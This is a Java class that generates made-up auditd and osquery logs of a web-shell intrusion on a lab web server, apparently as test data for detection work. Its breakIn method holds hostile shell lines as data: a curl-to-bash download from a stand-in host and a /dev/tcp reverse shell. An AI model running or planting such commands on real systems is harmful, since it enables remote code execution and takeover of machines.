package pedigree.samples;

import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.ArrayList;
import java.util.HexFormat;
import java.util.List;
import java.util.Locale;
import java.util.stream.Collectors;

/** A quiet web server on Linux, and somebody who found a way in: what its audit system and osquery log of it. All of it is made up. */
final class WebShell {

    private static final String HOST = "web-2.lab.example";
    private static final String PHP = "/usr/sbin/php-fpm8.2";
    private static final long BEGIN = Instant.parse("2026-03-04T08:59:02Z").toEpochMilli();
    private static final int ROOT = 0;
    private static final int WWW = 33;
    private static final int ADMIN = 1000;

    private final List<Call> calls = new ArrayList<>();
    private long now = BEGIN;
    private long serial = 4_100;

    /** A system call: what it was, by whom, and what made it worth a record. */
    private record Call(String name, long time, long serial, int pid, int parent, int user, String image, String result, List<String> arguments) { }

    private WebShell() {
        serve();
        after(412_018).administer();
        after(61_430).breakIn();
        after(300_000).turnLogs();
    }

    /** {@code /var/log/audit/audit.log} of these minutes. */
    static String auditd() {
        return new WebShell().calls.stream().map(WebShell::audited).collect(Collectors.joining());
    }

    /** osquery's {@code process_events} of these minutes, as a differential log. */
    static String osquery() {
        return new WebShell().calls.stream().filter(call -> call.name.equals("execve") || call.name.equals("clone"))
                .map(WebShell::queried).collect(Collectors.joining());
    }

    private void serve() {
        exec(712, 1, ROOT, "/usr/sbin/cron", "/usr/sbin/cron", "-f");
        after(210).exec(820, 1, ROOT, "/usr/sbin/sshd", "/usr/sbin/sshd", "-D");
        after(31).exec(850, 1, ROOT, "/usr/sbin/nginx", "/usr/sbin/nginx", "-g", "daemon on; master_process on;");
        after(420).exec(890, 1, ROOT, PHP, PHP, "--nodaemonize", "--fpm-config", "/etc/php/8.2/fpm/php-fpm.conf");
        after(55).fork(900, 890, ROOT, PHP);
    }

    private void administer() {
        exec(1410, 820, ROOT, "/usr/sbin/sshd", "/usr/sbin/sshd", "-D", "-R");
        after(2_204).exec(1433, 1410, ADMIN, "/usr/bin/bash", "-bash");
        after(9_020).exec(1440, 1433, ADMIN, "/usr/bin/tail", "tail", "-n", "50", "/var/log/nginx/access.log");
        after(4).exit(1440, 1433, ADMIN, "/usr/bin/tail");
    }

    private void breakIn() {
        exec(2101, 900, WWW, "/usr/bin/dash", "sh", "-c", "id; uname -a");
        after(1).exec(2102, 2101, WWW, "/usr/bin/id", "id");
        exit(2102, 2101, WWW, "/usr/bin/id");
        after(1).exec(2103, 2101, WWW, "/usr/bin/uname", "uname", "-a");
        exit(2103, 2101, WWW, "/usr/bin/uname");
        exit(2101, 900, WWW, "/usr/bin/dash");
        after(25_310).exec(2110, 900, WWW, "/usr/bin/dash", "sh", "-c", "curl -s http://192.0.2.7/u.sh | bash");
        after(2).exec(2111, 2110, WWW, "/usr/bin/curl", "curl", "-s", "http://192.0.2.7/u.sh");
        exec(2112, 2110, WWW, "/usr/bin/bash", "bash");
        after(18).connect(2111, 2110, "/usr/bin/curl", "0050");
        after(40).exit(2111, 2110, WWW, "/usr/bin/curl");
        after(3).exec(2114, 2112, WWW, "/usr/bin/bash", "bash", "-c", "bash -i >& /dev/tcp/192.0.2.7/4444 0>&1");
        after(2).connect(2114, 2112, "/usr/bin/bash", "115C");
        after(1).exec(2115, 2114, WWW, "/usr/bin/bash", "bash", "-i");
        after(8_800).exec(2120, 2115, WWW, "/usr/bin/whoami", "whoami");
        exit(2120, 2115, WWW, "/usr/bin/whoami");
    }

    private void turnLogs() {
        exec(2300, 712, ROOT, "/usr/bin/dash", "/bin/sh", "-c", "cd / && run-parts --report /etc/cron.hourly");
        exec(2301, 2300, ROOT, "/usr/bin/run-parts", "run-parts", "--report", "/etc/cron.hourly");
        exit(2301, 2300, ROOT, "/usr/bin/run-parts");
        exit(2300, 712, ROOT, "/usr/bin/dash");
    }

    private WebShell after(long milliseconds) {
        now += milliseconds;
        return this;
    }

    private void exec(int pid, int parent, int user, String image, String... arguments) {
        calls.add(new Call("execve", now, ++serial, pid, parent, user, image, "0", List.of(arguments)));
    }

    private void fork(int child, int pid, int user, String image) {
        calls.add(new Call("clone", now, ++serial, pid, 1, user, image, Integer.toString(child), List.of()));
    }

    private void exit(int pid, int parent, int user, String image) {
        calls.add(new Call("exit_group", now, ++serial, pid, parent, user, image, "?", List.of()));
    }

    private void connect(int pid, int parent, String image, String port) {
        calls.add(new Call("connect", now, ++serial, pid, parent, WWW, image, "-115", List.of("0200" + port + "C00002070000000000000000")));
    }

    private static String audited(Call call) {
        String event = "msg=audit(%d.%03d:%d):".formatted(call.time / 1000, call.time % 1000, call.serial);
        String name = call.image.substring(call.image.lastIndexOf('/') + 1);
        StringBuilder lines = new StringBuilder("node=%s type=SYSCALL %s arch=c000003e syscall=%d success=%s exit=%s a0=1200011 a1=0 a2=0 a3=0 items=0 ".formatted(
                HOST, event, number(call.name), call.name.equals("connect") ? "no" : "yes", call.result));
        lines.append("ppid=%d pid=%d auid=4294967295 uid=%d gid=%d euid=%d tty=(none) ses=4294967295 comm=\"%s\" exe=\"%s\" key=\"processes\"\n".formatted(
                call.parent, call.pid, call.user, call.user, call.user, name, call.image));
        if (call.name.equals("execve")) {
            lines.append("node=%s type=EXECVE %s argc=%d".formatted(HOST, event, call.arguments.size()));
            for (int i = 0; i < call.arguments.size(); i++) {
                lines.append(" a").append(i).append('=').append(untrusted(call.arguments.get(i)));
            }
            lines.append("\nnode=%s type=CWD %s cwd=\"/var/www/html\"\n".formatted(HOST, event));
        } else if (call.name.equals("connect")) {
            lines.append("node=%s type=SOCKADDR %s saddr=%s\n".formatted(HOST, event, call.arguments.get(0)));
        }
        return lines.append("node=%s type=EOE %s \n".formatted(HOST, event)).toString();
    }

    private static int number(String call) {
        return switch (call) {
            case "execve" -> 59;
            case "clone" -> 56;
            case "connect" -> 42;
            default -> 231;
        };
    }

    /** As the kernel writes a text that a user may have chosen. */
    private static String untrusted(String text) {
        boolean plain = text.chars().allMatch(c -> c > ' ' && c < 0x7f && c != '"');
        return plain ? '"' + text + '"' : HexFormat.of().withUpperCase().formatHex(text.getBytes(StandardCharsets.UTF_8));
    }

    private static String queried(Call call) {
        boolean fork = call.name.equals("clone");
        String line = call.arguments.stream().map(argument -> argument.contains(" ") ? '"' + argument + '"' : argument).collect(Collectors.joining(" "));
        return String.format(Locale.ROOT, "{\"name\":\"pack_servers_process_events\",\"hostIdentifier\":\"%s\",\"unixTime\":%d,\"epoch\":0,\"counter\":4,\"numerics\":false,"
                        + "\"columns\":{\"auid\":\"4294967295\",\"cmdline\":\"%s\",\"cwd\":\"/var/www/html\",\"parent\":\"%d\",\"path\":\"%s\",\"pid\":\"%s\",\"syscall\":\"%s\","
                        + "\"time\":\"%d\",\"uid\":\"%d\"},\"action\":\"added\"}\n",
                HOST, call.time / 10_000 * 10 + 10, line.replace("\"", "\\\""), fork ? call.pid : call.parent, call.image, fork ? call.result : Integer.toString(call.pid), call.name,
                call.time / 1000, call.user);
    }
}
